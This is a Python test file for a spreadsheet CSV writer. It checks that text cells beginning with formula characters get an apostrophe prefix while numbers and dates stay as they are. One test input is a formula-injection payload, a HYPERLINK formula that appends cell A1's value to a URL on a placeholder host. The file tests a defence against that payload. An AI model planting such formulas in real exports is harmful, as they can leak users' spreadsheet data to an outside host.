"""What is written for spreadsheets is never run by them."""

import csv
from datetime import date
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.spreadsheet import without_formulas, write_csv

texts = st.lists(st.none() | st.text(st.sampled_from("=+-@\t\r\n'a1 中")))


@given(texts, st.sampled_from([pa.string(), pa.large_string(), pa.string_view()]))
def test_no_text_begins_as_a_formula_and_no_other_is_changed(
    values: list[str | None], type: pa.DataType
) -> None:
    told = without_formulas(pa.table({"a": pa.array(values, type)}))["a"].to_pylist()
    expected = [f"'{text}" if text and text[0] in "=+-@\t\r" else text for text in values]
    assert told == expected


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1,"open")', "@SUM(1+1)", "-1+1"])
def test_numbers_and_days_stay_and_texts_are_texts(tmp_path: Path, name: str) -> None:
    table = pa.table({
        "name": [name], "list": [[name, "b"]], "score": [-0.5], "day": [date(2024, 1, 2)],
        "kind": pa.array([name]).dictionary_encode(),
    })  # fmt: skip
    write_csv(table, tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        [row] = csv.DictReader(file)
    assert row == {"name": f"'{name}", "list": f"'{name};b", "score": "-0.5", "day": "2024-01-02",
                   "kind": f"'{name}"}  # fmt: skip
